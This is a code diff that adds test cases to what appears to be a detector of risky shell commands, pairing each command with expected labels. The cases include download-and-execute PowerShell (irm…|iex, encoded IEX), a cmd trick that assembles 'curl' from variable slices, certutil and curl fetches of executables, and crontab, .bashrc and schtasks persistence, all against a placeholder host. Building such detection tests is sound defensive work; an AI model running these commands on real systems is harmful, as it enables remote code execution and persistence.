@@ -135,6 +135,26 @@ const CASES: readonly [string, string, string][] = [
     `powershell -enc ${utf16("IEX (iwr 'https://host.invalid/a')")}`,
     'run-interpreter encoded powershell | evaluate-downloaded hidden powershell | http-request hidden powershell to:other',
   ],
+  [
+    'PowerShell, an address without a scheme',
+    'powershell -c "irm host.invalid/install.ps1|iex"',
+    'run-interpreter powershell | http-request powershell to:other | evaluate-downloaded powershell',
+  ],
+  [
+    'words cut out of a variable of cmd',
+    '@echo off\nSet aim=cruwl\n%aim:~0,1%%aim:~2,1%%aim:~1,1%%aim:~-1% https://host.invalid/x -o x.exe',
+    'download-file path:executable to:other',
+  ],
+  [
+    'a variable of cmd',
+    'set "exe=x.exe"\ncurl https://host.invalid/x -o %exe%\nstart /B %exe%',
+    'download-file path:executable to:other | run-downloaded detached',
+  ],
+  [
+    'what certutil stores',
+    'certutil.exe -urlcache -f https://host.invalid/x x.dll',
+    'download-file path:executable to:other',
+  ],
   ['start-up', '(crontab -l; echo "* * * * * x") | crontab -', 'list-directory | persist-startup'],
   ['shell profile', 'echo "x" >> ~/.bashrc', 'persist-startup path:hidden path:home path:startup'],
   ['scheduled task', 'schtasks /create /tn x /tr y', 'persist-startup'],
